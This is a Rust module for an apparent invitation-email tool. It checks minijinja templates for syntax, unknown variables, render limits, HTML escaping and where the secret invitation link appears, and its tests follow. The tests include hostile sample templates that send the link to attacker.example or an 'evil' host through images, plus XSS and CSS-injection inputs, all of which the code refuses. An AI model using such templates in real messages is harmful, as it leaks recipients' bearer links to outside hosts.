//! Invitation templates: subject, HTML and text in minijinja, with HTML auto-escaping of everything a
//! person's data brings. Templates are checked before anything is sent: syntax errors with line and
//! column, unknown variables, and a subject that renders to nothing or to more than one line.

pub mod builtin;
pub mod dates;
mod detect;
mod localized;
pub mod placement;
pub mod wording;

use std::collections::BTreeSet;

use minijinja::value::Serde;
use minijinja::{AutoEscape, Environment, UndefinedBehavior, Value};
use serde::{Deserialize, Serialize};
use time::OffsetDateTime;
use ts_rs::TS;

pub(crate) use invite_desk_core::AppError;
use invite_desk_roster::Person;

pub use builtin::{Known, LinkKind, MessageKind};
pub use dates::Dates;
pub use localized::{
    CompiledTemplates, TEMPLATE_FORMAT, TEMPLATE_VERSION, Template, TemplateFile, Variant,
    describe_language as localized_describe,
};
pub use wording::{Logo, Style, Wording};

/// The three parts of a message as markup: the advanced way to write one language's message, and
/// what wording is laid out into.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
pub struct TemplateSet {
    pub subject: String,
    pub html: String,
    pub text: String,
}

impl TemplateSet {
    /// The English invitation Invite Desk had built in before languages, which batch files of then
    /// carry as their own: such a batch now follows the built-in wording (every language, right for
    /// its mode) instead.
    pub fn is_former_builtin(&self) -> bool {
        [
            (
                builtin::legacy::SUBJECT,
                builtin::legacy::HTML,
                builtin::legacy::TEXT,
            ),
            (
                builtin::legacy::reminder::SUBJECT,
                builtin::legacy::reminder::HTML,
                builtin::legacy::reminder::TEXT,
            ),
            (
                builtin::legacy::reissue::SUBJECT,
                builtin::legacy::reissue::HTML,
                builtin::legacy::reissue::TEXT,
            ),
        ]
        .iter()
        .any(|(subject, html, text)| {
            self.subject == *subject && self.html == *html && self.text == *text
        })
    }
}

/// How an expiry date is written.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Serialize, Deserialize, TS, Default)]
#[serde(rename_all = "snake_case")]
pub enum DateFormat {
    /// In the reader's language, as it writes dates: "8. Dezember 2026 um 14:05 UTC",
    /// "8 décembre 2026 à 14:05 UTC", "December 8, 2026 at 2:05 PM UTC".
    #[default]
    Written,
    /// 2026-11-28 14:05 UTC
    Iso,
    /// 28 November 2026, 14:05 UTC
    DayMonthYear,
    /// November 28, 2026, 14:05 UTC
    MonthDayYear,
    /// 28/11/2026 14:05 UTC
    DayMonthNumeric,
    /// 11/28/2026 14:05 UTC
    MonthDayNumeric,
}

impl DateFormat {
    /// The expiry for a reader of `language`: the formats with English month names are written
    /// in the reader's own language for anyone else.
    pub fn format_in(self, dates: &Dates, language: &str, at: OffsetDateTime) -> String {
        let english = invite_desk_roster::language::primary(language) == "en";
        match self {
            DateFormat::Written => dates.date_time(language, at),
            DateFormat::DayMonthYear | DateFormat::MonthDayYear if !english => {
                dates.date_time(language, at)
            }
            other => other.format(at),
        }
    }

    pub fn format(self, at: OffsetDateTime) -> String {
        let at = at.to_offset(time::UtcOffset::UTC);
        let (y, m, d, hh, mm) = (at.year(), at.month(), at.day(), at.hour(), at.minute());
        let month = format!("{m}");
        let n = u8::from(m);
        match self {
            DateFormat::Iso | DateFormat::Written => {
                format!("{y}-{n:02}-{d:02} {hh:02}:{mm:02} UTC")
            }
            DateFormat::DayMonthYear => format!("{d} {month} {y}, {hh:02}:{mm:02} UTC"),
            DateFormat::MonthDayYear => format!("{month} {d}, {y}, {hh:02}:{mm:02} UTC"),
            DateFormat::DayMonthNumeric => format!("{d:02}/{n:02}/{y} {hh:02}:{mm:02} UTC"),
            DateFormat::MonthDayNumeric => format!("{n:02}/{d:02}/{y} {hh:02}:{mm:02} UTC"),
        }
    }
}

/// What every message of a batch shares. Empty names are fine: the built-in wording then says
/// what it needs to without them.
#[derive(Debug, Clone, PartialEq, Eq, Serialize, Deserialize, TS)]
pub struct MessageSettings {
    /// The application people are invited to ("Portal"); empty: none is named.
    #[serde(default)]
    pub app_name: String,
    /// Who invites: the customer's organization or the sender's name; empty: none is named.
    #[serde(default)]
    pub organization: String,
    /// Where to ask for a new invitation: an address or a URL; empty: "the person who invited you".
    #[serde(default)]
    pub support_contact: String,
    #[serde(default)]
    pub date_format: DateFormat,
    /// The batch's language (a BCP 47 tag): the wording of everyone whose list gives none, or one
    /// the template has no wording in. Absent in files written before languages: English.
    #[serde(default = "default_language")]
    pub language: String,
}

impl MessageSettings {
    /// The placeholders earlier versions filled these fields with ("our application", "Your
    /// administrator"), read as what they meant: nothing said. A subject reading "Your our
    /// application account" is how the placeholder showed. Called on whatever was read from a file.
    pub fn forget_placeholders(&mut self) {
        for field in [
            &mut self.app_name,
            &mut self.organization,
            &mut self.support_contact,
        ] {
            if matches!(
                field.as_str(),
                "our application" | "Your administrator" | "your administrator"
            ) {
                field.clear();
            }
        }
    }

    /// What the built-in wording may name.
    pub fn known(&self) -> Known {
        Known {
            app_name: !self.app_name.trim().is_empty(),
            organization: !self.organization.trim().is_empty(),
            support_contact: !self.support_contact.trim().is_empty(),
        }
    }
}

/// Nothing named, dates written in the reader's language, English for whoever has no language.
impl Default for MessageSettings {
    fn default() -> Self {
        MessageSettings {
            app_name: String::new(),
            organization: String::new(),
            support_contact: String::new(),
            date_format: DateFormat::Written,
            language: default_language(),
        }
    }
}

fn default_language() -> String {
    "en".into()
}

/// The invitation link of one person.
#[derive(Clone)]
pub struct Link {
    /// A bearer secret; inserted exactly as issued.
    pub url: String,
    pub expires_at: OffsetDateTime,
    pub ttl_seconds: u64,
}

impl std::fmt::Debug for Link {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.debug_struct("Link")
            .field("expires_at", &self.expires_at)
            .finish_non_exhaustive()
    }
}

/// Variables a template may use. `person.app_metadata.*` and `person.user_metadata.*` take any key.
pub const VARIABLES: &[&str] = &[
    "person",
    "person.email",
    "person.given_name",
    "person.family_name",
    "person.name",
    "person.app_metadata",
    "person.user_metadata",
    "greeting_name",
    "link",
    "expires_at",
    "expires_in",
    "app_name",
    "organization",
    "support_contact",
];

fn known(variable: &str) -> bool {
    VARIABLES.contains(&variable)
        || variable.starts_with("person.app_metadata.")
        || variable.starts_with("person.user_metadata.")
}

/// The parts, by the names errors use.
/// A rendered invitation: the subject and both parts, what a message is built from.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Content {
    pub subject: String,
    pub html: String,
    pub text: String,
    /// The language it is written in (a BCP 47 tag).
    pub language: String,
}

const PARTS: [&str; 3] = ["subject", "html", "text"];

/// One language's templates compiled and checked, ready to render for many people.
pub struct CompiledSet {
    env: Environment<'static>,
}

impl std::fmt::Debug for CompiledSet {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        f.write_str("CompiledSet")
    }
}

/// Whose language dates and durations are written in, and the formatters that write them.
#[derive(Debug, Clone, Copy)]
pub struct Writing<'a> {
    pub dates: &'a Dates,
    /// A BCP 47 tag.
    pub language: &'a str,
}

/// Line and column (in characters) of a byte offset. An offset inside a character (an error range
/// measured in another template's text) is taken back to that character's start, never a panic.
fn position(source: &str, offset: usize) -> (usize, usize) {
    let mut offset = offset.min(source.len());
    while !source.is_char_boundary(offset) {
        offset -= 1;
    }
    let before = &source[..offset];
    let line = before.matches('\n').count() + 1;
    let column = before.rsplit('\n').next().map_or(0, |l| l.chars().count()) + 1;
    (line, column)
}

/// The error in the words of the part where it is: an error raised while rendering `part` may sit in
/// another one it includes (`{% include "html" %}`), and its range counts in that one's text.
/// Steps one part's render may take. The built-in invitation takes a few hundred; a loop within a
/// loop over a long list takes millions, and would run on every keystroke of the preview.
pub const RENDER_FUEL: u64 = 200_000;

/// The longest subject accepted, and about how much of one a mail program's list shows.
pub const MAX_SUBJECT_CHARS: usize = 150;
pub const SHOWN_SUBJECT_CHARS: usize = 78;

/// The most one part of a message may render to. A real invitation is a few kilobytes.
pub const MAX_RENDERED_BYTES: usize = 1024 * 1024;

/// Collects a render's output and refuses to grow past `MAX_RENDERED_BYTES`.
#[derive(Default)]
struct BoundedOutput {
    bytes: Vec<u8>,
    overflowed: bool,
}

impl std::io::Write for BoundedOutput {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        if self.bytes.len() + buf.len() > MAX_RENDERED_BYTES {
            self.overflowed = true;
            return Err(std::io::Error::other("the rendered message is too large"));
        }
        self.bytes.extend_from_slice(buf);
        Ok(buf.len())
    }

    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn template_error(
    part: &str,
    source: &str,
    error: &minijinja::Error,
    others: &Environment<'_>,
) -> AppError {
    let (part, source) = match error.name().filter(|name| *name != part) {
        Some(name) => match others.get_template(name) {
            Ok(template) => (name, template.source().to_owned()),
            Err(_) => (part, source.to_owned()),
        },
        None => (part, source.to_owned()),
    };
    let (line, column) = match error.range() {
        Some(range) => position(&source, range.start),
        None => (error.line().unwrap_or(1), 1),
    };
    let what = match error.kind() {
        minijinja::ErrorKind::OutOfFuel => format!(
            "the template does too much work (over {RENDER_FUEL} steps for one message): look for a loop inside a loop"
        ),
        _ => error
            .detail()
            .map_or_else(|| error.kind().to_string(), str::to_owned),
    };
    AppError::invalid_input(format!(
        "{part} template, line {line}, column {column}: {what}"
    ))
}

/// The link templates are checked with.
fn sample_link() -> Link {
    Link {
        url: "https://tenant.example/u/reset-password?ticket=SAMPLEvCXrmOFD88EqTjKp#type=invite"
            .into(),
        expires_at: OffsetDateTime::now_utc() + time::Duration::days(7),
        ttl_seconds: 7 * 86_400,
    }
}

/// The sample person templates are checked with before anything is sent.
fn sample_person() -> Person {
    Person {
        line: 2,
        email: "jane.doe@example.com".into(),
        given_name: Some("Jane".into()),
        family_name: Some("Doe".into()),
        name: Some("Jane Doe".into()),
        roles: vec!["viewer".into()],
        app_metadata: serde_json::Map::new(),
        user_metadata: serde_json::Map::new(),
        locale: None,
        external_id: None,
    }
}

/// The environment every template and wording field is compiled in.
fn environment() -> Result<Environment<'static>, AppError> {
    let mut env = Environment::new();
    env.set_undefined_behavior(UndefinedBehavior::Chainable);
    env.set_fuel(Some(RENDER_FUEL));
    // Text templates end with a newline like any text file; block tags on their own line leave
    // no blank line behind.
    let mut syntax = minijinja::syntax::SyntaxConfig::builder();
    syntax.keep_trailing_newline(true).trim_blocks(true);
    env.set_syntax(
        syntax
            .build()
            .map_err(|e| AppError::internal(format!("template syntax settings: {e}")))?,
    );
    env.set_auto_escape_callback(|name| {
        if name == "html" {
            AutoEscape::Html
        } else {
            AutoEscape::None
        }
    });
    Ok(env)
}

/// The first variable `source` uses that no message has, as an error at its place.
fn unknown_variable(
    env: &Environment<'_>,
    name: &str,
    source: &str,
    describe: &dyn Fn(usize, usize) -> String,
) -> Result<(), AppError> {
    let template = env
        .get_template(name)
        .map_err(|e| AppError::internal(e.to_string()))?;
    let unknown: BTreeSet<String> = template
        .undeclared_variables(true)
        .into_iter()
        .filter(|v| !known(v))
        .collect();
    if let Some(variable) = unknown.iter().next() {
        let last = variable.rsplit('.').next().unwrap_or(variable);
        // Where the variable is used: inside a tag, not the same letters in the words around it.
        let (line, column) = tag_words(source)
            .find(|(_, word)| {
                *word == variable.as_str() || word.ends_with(&format!(".{last}")) || *word == last
            })
            .map(|(at, word)| at + word.rfind(last).unwrap_or(0))
            .or_else(|| source.find(last))
            .map_or((1, 1), |offset| position(source, offset));
        return Err(AppError::invalid_input(format!(
            "{}: unknown variable `{variable}`; known: {}",
            describe(line, column),
            VARIABLES.join(", ")
        )));
    }
    Ok(())
}

/// The words inside a template's tags (`{{ person.email | upper }}` gives `person.email`, `upper`),
/// with their byte offsets.
fn tag_words(source: &str) -> impl Iterator<Item = (usize, &str)> {
    let mut regions = Vec::new();
    let mut from = 0;
    while let Some(open) = source[from..].find('{').map(|at| from + at) {
        let close = match source[open + 1..].chars().next() {
            Some('{') => "}}",
            Some('%') => "%}",
            _ => {
                from = open + 1;
                continue;
            }
        };
        let start = open + 2;
        let end = source[start..]
            .find(close)
            .map_or(source.len(), |at| start + at);
        regions.push((start, end));
        from = end;
    }
    regions.into_iter().flat_map(move |(start, end)| {
        let inner = &source[start..end];
        inner
            .split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.'))
            .filter(|w| !w.is_empty())
            .map(move |w| (start + (w.as_ptr() as usize - inner.as_ptr() as usize), w))
    })
}

/// A wording field rendered on its own for the sample person: what fails only when it runs (a
/// division by zero, a loop without end) is reported at the field, not at the layout's HTML line.
pub fn render_field(
    field: &str,
    source: &str,
    settings: &MessageSettings,
    language: &str,
    dates: &Dates,
) -> Result<(), AppError> {
    let source = plain_spaces_in_tags(source).into_owned();
    let mut env = environment()?;
    env.add_template_owned("field", source.clone())
        .map_err(|e| AppError::internal(e.to_string()))?;
    let template = env
        .get_template("field")
        .map_err(|e| AppError::internal(e.to_string()))?;
    let context = CompiledSet::context(
        &sample_person(),
        &sample_link(),
        settings,
        Writing { dates, language },
        false,
    );
    let mut output = BoundedOutput::default();
    let rendered = template.render_captured_to(context, &mut output);
    if output.overflowed {
        return Err(AppError::invalid_input(format!(
            "{field}: it makes over {} KB of text",
            MAX_RENDERED_BYTES / 1024
        )));
    }
    rendered.map(|_| ()).map_err(|e| {
        let (line, column) = e
            .range()
            .map_or((e.line().unwrap_or(1), 1), |r| position(&source, r.start));
        let what = match e.kind() {
            minijinja::ErrorKind::OutOfFuel => format!(
                "it does too much work (over {RENDER_FUEL} steps for one message): look for a loop inside a loop"
            ),
            _ => e.detail().map_or_else(|| e.kind().to_string(), str::to_owned),
        };
        let place = if source.contains('\n') {
            format!("{field}, line {line}, column {column}")
        } else {
            format!("{field}, column {column}")
        };
        AppError::invalid_input(format!("{place}: {what}"))
    })
}

/// The template with no-break spaces inside its tags made plain spaces: pasted from a word
/// processor, `{{\u{a0}link }}` reads as a syntax error to the engine and as nothing wrong to the
/// eye. One character for one, so lines and columns stay where the admin sees them.
pub fn plain_spaces_in_tags(source: &str) -> std::borrow::Cow<'_, str> {
    if !source.contains(['\u{a0}', '\u{202f}']) {
        return std::borrow::Cow::Borrowed(source);
    }
    let mut out = String::with_capacity(source.len());
    let mut inside: Option<&str> = None;
    let mut chars = source.char_indices().peekable();
    while let Some((at, c)) = chars.next() {
        let next = source[at + c.len_utf8()..].chars().next();
        match (inside, c, next) {
            (None, '{', Some('{' | '%' | '#')) => {
                inside = Some(match next {
                    Some('{') => "}}",
                    Some('%') => "%}",
                    _ => "#}",
                });
                out.push(c);
            }
            (Some(close), _, _) if source[at..].starts_with(close) => {
                inside = None;
                out.push(c);
                if let Some((_, second)) = chars.next() {
                    out.push(second);
                }
            }
            (Some(_), '\u{a0}' | '\u{202f}', _) => out.push(' '),
            _ => out.push(c),
        }
    }
    std::borrow::Cow::Owned(out)
}

/// One wording field on its own: its syntax and its variables, reported at the field (the layout
/// it goes into would report them at a line the admin never wrote).
pub fn check_field(field: &str, source: &str) -> Result<(), AppError> {
    let source = &*plain_spaces_in_tags(source);
    let mut env = environment()?;
    let describe = |line: usize, column: usize| {
        if source.contains('\n') {
            format!("{field}, line {line}, column {column}")
        } else {
            format!("{field}, column {column}")
        }
    };
    check_link_uses(source, &describe)?;
    if let Some(at) = tag_words(source).find(|(_, word)| *word == "safe" || *word == "autoescape") {
        let (line, column) = position(source, at.0);
        return Err(AppError::invalid_input(format!(
            "{}: `{}` is not for wording (its words are always escaped); write the message as HTML and text to mark up",
            describe(line, column),
            at.1
        )));
    }
    if let Err(e) = env.add_template_owned("field", source.to_owned()) {
        let (line, column) = e
            .range()
            .map_or((e.line().unwrap_or(1), 1), |r| position(source, r.start));
        let what = e
            .detail()
            .map_or_else(|| e.kind().to_string(), str::to_owned);
        return Err(AppError::invalid_input(format!(
            "{}: {what}",
            describe(line, column)
        )));
    }
    unknown_variable(&env, "field", source, &describe)
}

impl CompiledSet {
    pub fn compile(
        set: &TemplateSet,
        writing: Writing<'_>,
        settings: &MessageSettings,
    ) -> Result<Self, AppError> {
        let mut env = environment()?;
        for (part, source) in PARTS.into_iter().zip([&set.subject, &set.html, &set.text]) {
            let source = &plain_spaces_in_tags(source).into_owned();
            check_link_uses(source, &|line, column| {
                format!("{part} template, line {line}, column {column}")
            })?;
            env.add_template_owned(part, source.clone())
                .map_err(|e| template_error(part, source, &e, &Environment::new()))?;
            env.get_template(part)
                .map_err(|e| template_error(part, source, &e, &env))?;
            unknown_variable(&env, part, source, &|line, column| {
                format!("{part} template, line {line}, column {column}")
            })?;
        }
        let compiled = CompiledSet { env };
        let sample = sample_link();
        let subject =
            compiled.render_part("subject", &sample_person(), &sample, settings, writing)?;
        let subject = subject.trim();
        if subject.is_empty() {
            return Err(AppError::invalid_input(
                "subject template: it renders to nothing",
            ));
        }
        if subject.contains(['\n', '\r']) {
            return Err(AppError::invalid_input(
                "subject template: it renders to more than one line",
            ));
        }

        let content = compiled.render(&sample_person(), &sample, settings, writing)?;
        // An invitation without its link cannot be used: both parts carry it (a mail client shows
        // one or the other).
        let secret = link_secret(&sample.url);
        for (part, body) in [("html", &content.html), ("text", &content.text)] {
            if !body.contains(&secret) {
                return Err(AppError::invalid_input(format!(
                    "{part} template: it has no {{{{ link }}}}; an invitation without its link cannot be used (both the HTML and the text part need it)"
                )));
            }
        }
        Ok(compiled)
    }

    fn context(
        person: &Person,
        link: &Link,
        settings: &MessageSettings,
        writing: Writing<'_>,
        html: bool,
    ) -> Value {
        let greeting = person
            .given_name
            .clone()
            .or_else(|| person.name.clone())
            .unwrap_or_else(|| {
                person
                    .email
                    .split('@')
                    .next()
                    .unwrap_or_default()
                    .to_owned()
            });
        // In HTML the link goes out with only &, <, >, " and ' escaped, so every character of the
        // issued URL survives (minijinja's own escaping would also encode `/`).
        let link_value = if html {
            Value::from_safe_string(escape_attribute(&link.url))
        } else {
            Value::from(link.url.clone())
        };
        minijinja::context! {
            person => Value::from(Serde(person)),
            greeting_name => greeting,
            link => link_value,
            expires_at => settings.date_format.format_in(writing.dates, writing.language, link.expires_at),
            expires_in => writing.dates.expires_in(writing.language, link.ttl_seconds),
            app_name => settings.app_name.clone(),
            organization => settings.organization.clone(),
            support_contact => settings.support_contact.clone(),
        }
    }

    fn render_part(
        &self,
        part: &str,
        person: &Person,
        link: &Link,
        settings: &MessageSettings,
        writing: Writing<'_>,
    ) -> Result<String, AppError> {
        let template = self
            .env
            .get_template(part)
            .map_err(|e| AppError::internal(e.to_string()))?;
        let source = template.source().to_owned();
        let mut output = BoundedOutput::default();
        let rendered = template.render_captured_to(
            Self::context(person, link, settings, writing, part == "html"),
            &mut output,
        );
        if output.overflowed {
            return Err(AppError::invalid_input(format!(
                "{part} template: the message it makes is over {} KB; an invitation is a few",
                MAX_RENDERED_BYTES / 1024
            )));
        }
        rendered.map_err(|e| template_error(part, &source, &e, &self.env))?;
        String::from_utf8(output.bytes)
            .map_err(|e| AppError::internal(format!("{part} template rendered invalid UTF-8: {e}")))
    }

    /// One person's message. Checked on every render, for every person (a template may place the
    /// link differently for different data): the link appears only where it belongs.
    pub fn render(
        &self,
        person: &Person,
        link: &Link,
        settings: &MessageSettings,
        writing: Writing<'_>,
    ) -> Result<Content, AppError> {
        let subject = self.render_part("subject", person, link, settings, writing)?;
        let html = self.render_part("html", person, link, settings, writing)?;
        let secret = link_secret(&link.url);
        if subject.contains(&secret) {
            return Err(AppError::invalid_input(
                "subject template: it puts the link in the subject; the link belongs in the message (a link's href, or the text)",
            ));
        }
        if let Some(place) = placement::misplaced_link(
            &html,
            &escape_attribute(&link.url),
            &escape_attribute(&secret),
        ) {
            return Err(AppError::invalid_input(format!(
                "html template: it puts the link in {}, where a mail client fetches or hides it; a link may appear only as a link's target (<a href=\"{{{{ link }}}}\">) or in the text",
                place.describe()
            )));
        }
        Ok(Content {
            // Person data may hold line breaks; a subject is one line.
            subject: subject.split_whitespace().collect::<Vec<_>>().join(" "),
            html,
            text: self.render_part("text", person, link, settings, writing)?,
            language: writing.language.to_owned(),
        })
    }
}

/// The link is used only as `{{ link }}`: a filter, a slice, a join or a `set` makes something from
/// it that the placement check (which looks for the link) would not recognise.
fn check_link_uses(
    source: &str,
    describe: &dyn Fn(usize, usize) -> String,
) -> Result<(), AppError> {
    let mut from = 0;
    while let Some(open) = source[from..].find(['{']).map(|at| from + at) {
        let kind = source[open + 1..].chars().next();
        let close = match kind {
            Some('{') => "}}",
            Some('%') => "%}",
            _ => {
                from = open + 1;
                continue;
            }
        };
        let inner_start = open + 2;
        let inner_end = source[inner_start..]
            .find(close)
            .map_or(source.len(), |at| inner_start + at);
        let inner = &source[inner_start..inner_end];
        let mentions_link = inner.match_indices("link").any(|(at, _)| {
            let before = inner[..at].chars().next_back();
            let after = inner[at + 4..].chars().next();
            let word = |c: Option<char>| c.is_some_and(|c| c.is_alphanumeric() || c == '_');
            !word(before) && before != Some('.') && !word(after)
        });
        if mentions_link {
            let bare = inner.trim_matches(|c: char| c == '-' || c == '+' || c.is_whitespace());
            if kind != Some('{') || bare != "link" {
                let (line, column) = position(source, open);
                return Err(AppError::invalid_input(format!(
                    "{}: use the link only as {{{{ link }}}} (no filter, slice, join or set): anything made from the link escapes the check that keeps it where it belongs",
                    describe(line, column)
                )));
            }
        }
        from = inner_end;
    }
    Ok(())
}

/// The part of a link that makes it a bearer secret: its `ticket` (password-change and
/// verification tickets) or `invitation` (organization invitations) value, else the whole link.
/// Finding it finds the link and what is derived from it.
pub fn link_secret(url: &str) -> String {
    url::Url::parse(url)
        .ok()
        .and_then(|u| {
            u.query_pairs()
                .find(|(k, v)| (k == "ticket" || k == "invitation") && v.len() >= 8)
                .map(|(_, v)| v.into_owned())
        })
        .unwrap_or_else(|| url.to_owned())
}

pub(crate) fn escape_attribute(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        match c {
            '&' => out.push_str("&amp;"),
            '<' => out.push_str("&lt;"),
            '>' => out.push_str("&gt;"),
            '"' => out.push_str("&quot;"),
            '\'' => out.push_str("&#39;"),
            c => out.push(c),
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    /// The English password-change invitation, as markup: what the checks below start from.
    fn builtin() -> TemplateSet {
        let known = Known {
            app_name: true,
            organization: true,
            support_contact: true,
        };
        let words = builtin::wording(
            "en",
            MessageKind::Invitation,
            LinkKind::PasswordChange,
            known,
        )
        .unwrap();
        wording::layout(&words, "en", &Style::default())
    }

    fn compile(set: &TemplateSet) -> Result<CompiledTemplates, AppError> {
        CompiledTemplates::compile(&Template::markup(set.clone(), "en"), "en")
    }

    fn link() -> Link {
        Link {
            url: "https://acme.eu.auth0.com/u/reset-password?ticket=vCXrmOFD88EqTjKpvxBEwG7KmlQ0QFmS#type=invite&app=Portal".into(),
            expires_at: OffsetDateTime::from_unix_timestamp(1_795_000_000).unwrap(),
            ttl_seconds: 7 * 86_400,
        }
    }

    fn person(given: &str) -> Person {
        Person {
            given_name: Some(given.into()),
            ..sample_person()
        }
    }

    #[test]
    fn a_template_that_puts_the_link_where_a_client_fetches_it_is_refused() {
        for html in [
            r#"<p>Hi</p><img src="https://x.example/?l={{ link }}"><a href="{{ link }}">go</a>"#,
            r#"<a href="{{ link }}" title="{{ link }}">go</a>"#,
            r#"<!-- {{ link }} --><a href="{{ link }}">go</a>"#,
            r#"<a href="{{ link }}">go</a>{% if person.given_name == "Jane" %}<img src="//x/{{ link[8:] }}">{% endif %}"#,
            r#"<a href="https://attacker.example/?t={{ link }}">go</a>"#,
            r#"<img src="{{ 'https://evil/' ~ link|reverse }}"><a href="{{ link }}">go</a>"#,
            r#"{% set l = link %}<a href="{{ l }}">go</a>"#,
        ] {
            let set = TemplateSet {
                html: html.into(),
                ..builtin()
            };
            let error = compile(&set).unwrap_err();
            assert!(
                error.message.contains("html template: it puts the link in")
                    || error.message.contains("use the link only as {{ link }}"),
                "{html}: {}",
                error.message
            );
        }
        let subject = TemplateSet {
            subject: "Your link {{ link }}".into(),
            ..builtin()
        };
        assert!(compile(&subject).is_err());
        // Where it belongs: allowed, and checked again for each person's own data.
        let fine = TemplateSet {
            html: r#"<a href="{{ link }}">Set your password</a><p>{{ link }}</p>{% if person.given_name == "Zed" %}<img src="{{ link }}">{% endif %}"#.into(),
            ..builtin()
        };
        let compiled = compile(&fine).unwrap();
        assert!(
            compiled
                .render(&person("Ann"), &link(), &MessageSettings::default())
                .is_ok()
        );
        let error = compiled
            .render(&person("Zed"), &link(), &MessageSettings::default())
            .unwrap_err();
        assert!(error.message.contains("<img src="), "{}", error.message);
    }

    #[test]
    fn both_parts_must_carry_the_link() {
        for (html, text, part) in [
            ("<p>Hello</p>", "{{ link }}\n", "html template"),
            (r#"<a href="{{ link }}">Go</a>"#, "Hello\n", "text template"),
            // Only for some people is not enough: the sample has to get it too.
            (
                r#"{% if person.given_name == "Zed" %}<a href="{{ link }}">Go</a>{% endif %}"#,
                "{{ link }}\n",
                "html template",
            ),
        ] {
            let set = TemplateSet {
                html: html.into(),
                text: text.into(),
                ..builtin()
            };
            let error = compile(&set).unwrap_err();
            assert!(
                error.message.starts_with(part) && error.message.contains("has no {{ link }}"),
                "{html} / {text}: {}",
                error.message
            );
        }
    }

    #[test]
    fn a_template_that_works_too_hard_or_writes_too_much_is_refused() {
        let nested = TemplateSet {
            text: "{% for a in 'x' * 100000 %}{% for b in 'x' * 100000 %}x{% endfor %}{% endfor %}{{ link }}\n".into(),
            ..builtin()
        };
        let error = compile(&nested).unwrap_err();
        assert!(error.message.contains("too much work"), "{}", error.message);
        let huge = TemplateSet {
            text: "{% for a in 'x' * 50 %}{{ 'x' * 50000 }}{% endfor %}{{ link }}\n".into(),
            ..builtin()
        };
        let error = compile(&huge).unwrap_err();
        assert!(error.message.contains("over 1024 KB"), "{}", error.message);
    }

    #[test]
    fn the_builtin_invitation_follows_the_guidance() {
        let compiled = compile(&builtin()).unwrap();
        let settings = MessageSettings {
            app_name: "Portal".into(),
            organization: "Acme".into(),
            support_contact: "help@acme.example".into(),
            date_format: DateFormat::DayMonthYear,
            language: "en".into(),
        };
        let content = compiled
            .render(&person("Jane"), &link(), &settings)
            .unwrap();
        assert_eq!(
            content.subject,
            "Your Portal account is ready: set your password"
        );
        for part in [&content.text, &content.html] {
            assert!(
                part.contains("expires <strong>in 7 days</strong>")
                    || part.contains("expires in 7 days"),
                "{part}"
            );
            assert!(
                part.contains("help@acme.example"),
                "how to get a new invitation"
            );
            assert!(part.contains("jane.doe@example.com"));
        }
        assert!(
            content.text.contains(&link().url),
            "the text part holds the link exactly"
        );
        assert!(content.html.contains("href=\"https://acme.eu.auth0.com/u/reset-password?ticket=vCXrmOFD88EqTjKpvxBEwG7KmlQ0QFmS#type=invite&amp;app=Portal\""));
        assert!(
            content.text.contains("(18 November 2026, 11:06 UTC)"),
            "{}",
            content.text
        );
    }

    #[test]
    fn person_data_is_escaped_in_html_only() {
        let compiled = compile(&builtin()).unwrap();
        let content = compiled
            .render(
                &person("<script>alert(1)</script>"),
                &link(),
                &MessageSettings::default(),
            )
            .unwrap();
        assert!(
            content
                .html
                .contains("Hello &lt;script&gt;alert(1)&lt;&#x2f;script&gt;,"),
            "{}",
            &content.html[..2000]
        );
        assert!(!content.html.contains("<script>"));
        assert!(content.text.contains("Hello <script>alert(1)</script>,"));
    }

    #[test]
    fn a_logo_is_embedded_and_the_button_takes_the_accent() {
        let words = builtin::wording(
            "en",
            MessageKind::Invitation,
            LinkKind::PasswordChange,
            Known::default(),
        )
        .unwrap();
        let style = Style {
            accent: "#ffd43b".into(),
            logo: Some(Logo {
                media_type: "image/png".into(),
                data: "iVBORw0KGgo=".into(),
                alt: "Acme <Co>".into(),
            }),
        };
        let template = Template {
            languages: [("en".to_owned(), Variant::Wording(words))].into(),
            style,
        };
        let compiled = CompiledTemplates::compile(&template, "en").unwrap();
        let content = compiled
            .render(&person("Ann"), &link(), &MessageSettings::default())
            .unwrap();
        assert!(
            content.html.contains(
                "<img src=\"data:image/png;base64,iVBORw0KGgo=\" alt=\"Acme &lt;Co&gt;\""
            )
        );
        assert!(
            placement::remote_resources(&content.html).is_empty(),
            "an embedded logo loads nothing"
        );
        assert!(
            content.html.contains("background:#ffd43b;color:#000000"),
            "dark text on a light button"
        );
        let mut broken = template.clone();
        broken.style.accent = "red; background:url(https://x)".into();
        assert!(CompiledTemplates::compile(&broken, "en").is_err());
    }

    #[test]
    fn no_break_spaces_inside_tags_are_spaces_and_nowhere_else() {
        assert_eq!(
            plain_spaces_in_tags(
                "a\u{a0}b {{\u{a0}link\u{a0}}} c\u{a0}d {%\u{a0}if x %}y{% endif %}"
            ),
            "a\u{a0}b {{ link }} c\u{a0}d {% if x %}y{% endif %}"
        );
        let pasted = TemplateSet {
            html: "<a href=\"{{\u{a0}link }}\">Go</a>".into(),
            ..builtin()
        };
        assert!(compile(&pasted).is_ok());
    }

    #[test]
    fn syntax_errors_name_the_part_line_and_column() {
        let set = TemplateSet {
            text: "Hello\n{{ person.email }\n".into(),
            ..builtin()
        };
        let err = compile(&set).unwrap_err();
        assert!(
            err.message.starts_with("text template, line 2, column"),
            "{}",
            err.message
        );
    }

    #[test]
    fn an_error_in_an_included_part_is_placed_in_that_part_never_a_panic() {
        // The error sits in the HTML part at a byte offset that, counted in the text part, falls
        // inside an accented character: it must be reported in the HTML part's lines.
        let set = TemplateSet {
            html: "<p>Hallo {{ link }}</p>\n<p>{{ 1 // 0 }}</p>\n".into(),
            text: "Grüße, éèêë àâä öü {% include \"html\" %} {{ link }}\n".into(),
            ..builtin()
        };
        let err = compile(&set).unwrap_err();
        assert!(
            err.message.starts_with("html template, line 2"),
            "{}",
            err.message
        );
        for offset in 0..20 {
            let _ = position("Grüße, éèêë", offset);
        }
    }

    #[test]
    fn unknown_variables_are_refused_before_sending() {
        let set = TemplateSet {
            subject: "Hi {{ person.frist_name }}".into(),
            ..builtin()
        };
